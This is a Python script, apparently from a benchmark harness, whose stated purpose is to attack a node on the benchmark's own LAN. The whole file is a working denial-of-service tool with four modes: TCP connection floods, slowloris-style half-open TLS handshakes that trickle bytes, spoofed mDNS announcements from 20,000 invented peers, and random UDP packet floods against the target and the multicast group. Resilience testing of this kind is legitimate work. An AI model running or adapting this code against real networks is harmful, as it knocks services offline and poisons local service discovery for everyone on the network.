#!/usr/bin/env python3
"""Attacks a node on a LAN of the benchmarks' own, until it is told to end: see denial.sh.

denial.py HOW FROM TO PORT [RATE]   HOW: connections, handshakes, mdns, packets; FROM: own addresses
"""
import os
import random
import socket
import struct
import sys
import time

how, own, there, port = sys.argv[1], sys.argv[2].split(","), sys.argv[3], int(sys.argv[4])
rate = float(sys.argv[5]) if len(sys.argv) > 5 else 1000.0
MDNS = ("224.0.0.251", 5353)
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x07" * 100
random.seed(1)
held = []


def paced():
    """Counts up, as often a second as it should; what the machine does not keep up with is left out."""
    n, due = 0, time.monotonic()
    while True:
        due = max(due + 1 / rate, time.monotonic() - 0.1)
        if due > time.monotonic():
            time.sleep(max(0, due - time.monotonic()))
        yield n
        n += 1


def connect(n):
    one = socket.socket()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    one.settimeout(1)
    one.bind((own[n % len(own)], 0))
    try:
        one.connect((there, port))
    except OSError:
        one.close()
        return None
    return one


def say(one, what):
    try:
        one.send(what)
    except OSError:
        pass


def connections(n):
    one = connect(n)
    if one:
        if n % 2:
            say(one, b"GET / HTTP/1.1\r\n\r\n")
        one.close()


def handshakes(n):
    """Half-open ones: nothing said, or the beginning of a TLS handshake, and then a byte now and then."""
    one = connect(n)
    if one:
        if n % 2:
            say(one, HELLO)
        held.append(one)
    if len(held) > 900:
        held.pop(0).close()
    if held:
        say(random.choice(held), b"\x07")


def name(*labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(owner, kind, data):
    return owner + struct.pack(">HHIH", kind, 1, 4500, len(data)) + data


def fake(n):
    """What one of 20,000 peers that there are not says: in whole, or only what nobody asked for."""
    short = "".join(random.Random(n).choices("abcdefghijklmnopqrstuvwxyz234567", k=52)).encode()
    service = (b"_ftx", b"_tcp", b"local")
    instance = name(b"pc%d~" % n + short[:8], *service)
    host = name(b"ftx-" + short[:8], b"local")
    txt = b"".join(bytes([len(f)]) + f for f in (b"v=1", b"n=pc%d" % n, b"id=" + short, b"r=peer", b"a=ask"))
    records = [
        record(instance, 33, struct.pack(">HHH", 0, 0, 23547) + host),
        record(instance, 16, txt),
        record(host, 1, socket.inet_aton("10.78.0.%d" % (n % 250 + 3))),
    ]
    if n % 2:
        records.insert(0, record(name(*service), 12, instance))
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def mdns(n):
    send(fakes[n % len(fakes)], MDNS)


def send(packet, to):
    try:
        udp.sendto(packet, to)
    except OSError:
        pass


def packets(n):
    send(os.urandom(random.randrange(1400)), ((there, port), (there, 5353), MDNS)[n % 3])


if how in ("mdns", "packets"):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    udp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own[0]))
    udp.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    udp.bind((own[0], 5353))
fakes = [fake(n) for n in range(20000)] if how == "mdns" else []
began, done, told = time.monotonic(), 0, 0.0
attack = globals()[how]
for n in paced():
    attack(n)
    done = n + 1
    if time.monotonic() - told > 0.2:
        told = time.monotonic()
        # How many, and how many a second: replaced as a whole, so that nobody reads half of it.
        with open(sys.argv[6] + ".new", "w") as out:
            out.write("%d %.0f\n" % (done, done / (told - began)))
        os.replace(sys.argv[6] + ".new", sys.argv[6])
